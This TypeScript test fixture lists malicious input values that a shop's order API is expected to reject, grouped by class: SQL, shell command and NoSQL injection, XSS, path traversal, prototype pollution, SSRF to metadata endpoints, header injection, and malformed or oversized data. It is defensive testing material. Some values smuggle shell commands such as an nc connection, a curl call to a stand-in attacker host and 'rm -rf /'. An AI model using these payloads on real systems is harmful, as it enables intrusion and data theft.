import type { Json } from "../support/events";

/** The classes of attacks that a value can carry, from whatever source it comes. */
export type ValueClass =
  | "SQL"
  | "command"
  | "XSS"
  | "NoSQL and PartiQL"
  | "path traversal"
  | "prototype pollution"
  | "SSRF"
  | "oversize"
  | "deep nesting"
  | "wrong types"
  | "unicode"
  | "header injection";

/** An order as every source of the shop carries it. */
export const goodOrder: Json = {
  id: "3f2b8c1e-5a4d-4e6f-8a7b-9c0d1e2f3a4b",
  sku: "SHIRT-42",
  quantity: 2,
  name: "Anna Müller",
  email: "anna@shop.example",
  status: "placed",
};

/** What an attack writes into an order: members that replace the good ones. The API answers 400 unless it is said. */
export type Row = [name: string, change: Json, status?: number];

const deep = (depth: number): unknown => JSON.parse(`${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`);
const deepList = (depth: number): unknown => JSON.parse("[".repeat(depth) + "]".repeat(depth));
const manyMembers = Object.fromEntries(Array.from({ length: 50_000 }, (_, index) => [`member${index}`, index]));
/** An object with a key that only JSON can write. */
const own = (text: string): Json => JSON.parse(text);

/** Attacks by class. Each is refused by the schema of a field, or by the helper that the field is given to. */
export const valueAttacks: Record<ValueClass, Row[]> = {
  SQL: [
    ["a tautology in an id", { id: "' OR '1'='1" }],
    ["a tautology after a good id", { id: "3f2b8c1e-5a4d-4e6f-8a7b-9c0d1e2f3a4b' OR 1=1--" }],
    ["a stacked statement in a stock number", { sku: "A'; DROP TABLE orders;--" }],
    ["a union in a stock number", { sku: "X' UNION SELECT password FROM customers--" }],
    ["a stacked statement in a name", { name: "Robert'); DROP TABLE customers;--" }],
    ["a comment in a name", { name: "admin'/*" }],
    ["a delay in a name", { name: "x'||pg_sleep(10)||'" }],
    ["a condition in a number", { quantity: "1 OR 1=1" }],
    ["a quote in a status", { status: "placed' OR status='paid" }],
    ["an e-mail address with a quoted statement", { email: '"a\' OR 1=1--"@shop.example' }],
  ],
  command: [
    ["a second command in a stock number", { sku: "A; cat /etc/passwd" }],
    ["a pipe in a stock number", { sku: "A|nc 203.0.113.5 4444" }],
    ["a substitution in a name", { name: "$(curl https://evil.example)" }],
    ["backticks in a name", { name: "`id -u`" }],
    ["a background command in a name", { name: "Anna & reboot" }],
    ["an option in place of a file", { attachment: "--output=/etc/cron.d/x" }],
    ["an option of one letter in place of a file", { attachment: "-rf" }],
    ["a line of a shell in a stock number", { sku: "A\nrm -rf /" }],
    ["an environment variable of the process", { name: "$AWS_SECRET_ACCESS_KEY" }],
    ["a redirection in an id", { id: "3f2b8c1e > /tmp/x" }],
  ],
  XSS: [
    ["a script in a name", { name: "<script>alert(1)</script>" }],
    ["an image in a name", { name: "<img src=x onerror=alert(1)>" }],
    ["a script in a stock number", { sku: "<SCRIPT SRC=//evil.example>" }],
    ["an attribute's end in a name", { name: '" autofocus onfocus="alert(1)' }],
    ["a template in a name", { name: "{{constructor.constructor('alert(1)')()}}" }],
    ["a script in an e-mail address", { email: "<svg/onload=alert(1)>@shop.example" }],
    ["a script's address in place of a picture's", { image: "javascript:alert(1)" }],
    ["a page in place of a picture's address", { image: "data:text/html,<script>alert(1)</script>" }],
    ["markup in a status", { status: "<b>placed</b>" }],
  ],
  "NoSQL and PartiQL": [
    ["an operator in place of an id", { id: { $ne: null } }],
    ["an operator in place of a name", { name: { $gt: "" } }],
    ["a pattern in place of an e-mail address", { email: { $regex: ".*" } }],
    ["code in place of a stock number", { sku: { $where: "sleep(5000)" } }],
    ["an attribute value of DynamoDB in place of a text", { sku: { S: "SHIRT-42" } }],
    ["a PartiQL condition in an id", { id: "x' OR attribute_exists(id) OR 'a'='a" }],
    ["a second PartiQL statement in a stock number", { sku: "A'; DELETE FROM \"orders\" WHERE 'a'='a" }],
    ["an expression attribute in a status", { status: ":placed OR #status <> :x" }],
    ["an additional member", { $where: "1" }],
    ["an owner that is not the caller's to say", { customer: "somebody-else" }],
  ],
  "path traversal": [
    ["a file above the folder", { attachment: "../../etc/passwd" }],
    ["a file from the root", { attachment: "/etc/passwd" }],
    ["the process's environment", { attachment: "/proc/self/environ" }],
    ["a way up in the middle", { attachment: "invoices/../../../etc/shadow" }],
    ["backslashes", { attachment: "..\\..\\windows\\win.ini" }],
    ["a NUL before a good ending", { attachment: "../../etc/passwd\u0000.pdf" }],
    ["the folder itself", { attachment: "." }],
    ["the folder above", { attachment: ".." }],
    ["a way up in an id", { id: "../customers/1" }],
    ["percent-encoded dots in a stock number", { sku: "%2e%2e%2f%2e%2e%2fetc" }],
    ["an empty name of a file", { attachment: "" }],
    ["a link out of the folder", { attachment: "hosts.pdf" }],
    ["a hidden file", { attachment: ".env" }],
  ],
  "prototype pollution": [
    ["__proto__ at the top", own('{"__proto__":{"isAdmin":true}}')],
    ["constructor at the top", own('{"constructor":{"prototype":{"isAdmin":true}}}')],
    ["prototype at the top", own('{"prototype":{"isAdmin":true}}')],
    ["__proto__ within a member", { sku: own('{"__proto__":{"isAdmin":true}}') }],
    ["constructor within a member", { name: own('{"constructor":{"prototype":{"toString":1}}}') }],
    ["__proto__ within a list", { note: [own('{"__proto__":[]}')] }],
    ["an escaped __proto__", own('{"\\u005f\\u005fproto__":{"isAdmin":true}}')],
    ["the parts of a path", own('{"__proto__.isAdmin":true}')],
  ],
  SSRF: [
    ["the instance's metadata", { image: "http://169.254.169.254/latest/meta-data/iam/security-credentials/" }],
    ["the metadata over TLS", { image: "https://169.254.169.254/latest/meta-data/" }],
    ["the task's credentials", { image: "https://169.254.170.2/v2/credentials" }],
    ["the runtime's own API", { image: "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next" }],
    ["this machine by name", { image: "https://localhost/" }],
    ["this machine in IPv6", { image: "https://[::1]/" }],
    ["an IPv4 address within IPv6", { image: "https://[::ffff:169.254.169.254]/" }],
    ["an address as one number", { image: "https://2852039166/" }],
    ["an address in octal", { image: "https://0251.0376.0251.0376/" }],
    ["a file", { image: "file:///etc/passwd" }],
    ["another protocol", { image: "gopher://images.shop.example:6379/_FLUSHALL" }],
    ["the good host as a user's name", { image: "https://images.shop.example@evil.example/a.png" }],
    ["the good host as the beginning of another", { image: "https://images.shop.example.evil.example/a.png" }],
    ["the good host as a fragment", { image: "https://evil.example/#images.shop.example" }],
    ["another host with a backslash", { image: "https://evil.example\\@images.shop.example/" }],
    ["no scheme", { image: "//evil.example/a.png" }],
    ["no TLS", { image: "http://images.shop.example/a.png" }],
    ["another port", { image: "https://images.shop.example:6379/a.png" }],
    ["a name that resolves to the metadata", { image: "https://rebound.shop.example/a.png" }],
  ],
  oversize: [
    ["a note of 501 characters", { note: "x".repeat(501) }],
    ["a name of 10,000 characters", { name: "a".repeat(10_000) }],
    ["a stock number of 1,000 characters", { sku: "A".repeat(1_000) }],
    ["a text of 300,000 bytes", { note: "y".repeat(300_000) }, 413],
    ["a text of 100,000 characters of three bytes", { note: "\u20ac".repeat(100_000) }, 413],
    ["50,000 members", manyMembers, 413],
    ["a list of 100,000 elements", { note: Array(100_000).fill(0) }],
    ["a key of 300,000 characters", { ["k".repeat(300_000)]: 1 }, 413],
    ["a number beyond the largest", { quantity: 101 }],
  ],
  "deep nesting": [
    ["objects 21 deep", { note: deep(21) }],
    ["objects 1,000 deep", { note: deep(1_000) }],
    ["lists 1,000 deep", { note: deepList(1_000) }],
    ["lists 1,500 deep in place of a number", { quantity: deepList(1_500) }],
    ["lists and objects by turns", { sku: JSON.parse(`${'[{"a":'.repeat(200)}1${"}]".repeat(200)}`) }],
  ],
  "wrong types": [
    ["a text in place of a number", { quantity: "2" }],
    ["a fraction in place of an integer", { quantity: 1.5 }],
    ["a negative number", { quantity: -1 }],
    ["zero", { quantity: 0 }],
    ["true in place of a number", { quantity: true }],
    ["nothing in place of a number", { quantity: null }],
    ["a list in place of a text", { sku: ["SHIRT-42"] }],
    ["an object in place of a text", { name: { first: "Anna" } }],
    ["a number in place of a text", { email: 7 }],
    ["nothing in place of an id", { id: null }],
    ["a member that is missing", { sku: undefined }],
    ["a status that there is not", { status: "free" }],
    ["a number too large to be exact", { quantity: 2 ** 53 }],
    ["a member that nobody asked for", { price: 0 }],
  ],
  unicode: [
    ["an end that a control writes backwards", { name: "Anna\u202Egnp.exe" }],
    ["a character of no width", { name: "An\u200Bna" }],
    ["a byte order mark", { name: "\uFEFFAnna" }],
    ["half a surrogate pair", { name: "Anna\uD800" }],
    ["the other half of a surrogate pair", { note: "\uDC00 hello" }],
    ["a NUL", { note: "hello\u0000" }],
    ["full-width dots and slashes", { attachment: "\uFF0E\uFF0E\uFF0F\uFF0E\uFF0E\uFF0Fetc\uFF0Fpasswd" }],
    ["full-width quotes in a stock number", { sku: "A\uFF07OR\uFF071" }],
    ["Cyrillic letters that look Latin", { sku: "SH\u0406RT-42" }],
    ["digits of another script", { sku: "SHIRT-\u0664\u0662" }],
    ["an e-mail address with look-alikes", { email: "anna@sh\u043Ep.example" }],
    ["a line separator in a name", { name: "Anna\u2028Admin" }],
    ["an escape sequence of a terminal", { name: "\u001B[2J\u001B[31mAnna" }],
    ["tag characters, which nobody sees", { name: "Anna\u{E0041}\u{E0042}" }],
    ["a long s that becomes S in capitals", { sku: "\u017FHIRT-42" }],
  ],
  "header injection": [
    ["a header after a name", { name: "Anna\r\nSet-Cookie: session=evil" }],
    ["a receiver after an e-mail address", { email: "anna@shop.example\r\nBcc: all@shop.example" }],
    ["a second receiver", { email: "anna@shop.example,evil@evil.example" }],
    ["a line feed at the end of an e-mail address", { email: "anna@shop.example\n" }],
    ["a body after a stock number", { sku: "A\r\n\r\n<html>" }],
    ["a line of a log after a status", { status: 'placed\n{"level":"INFO","message":"paid"}' }],
    ["a line feed at the end of a stock number", { sku: "SHIRT-42\n" }],
    ["an encoded line feed in an id", { id: "3f2b8c1e%0d%0aX-Evil: 1" }],
    ["a file's name with a header", { attachment: 'a.pdf"\r\nX-Evil: 1' }],
  ],
};
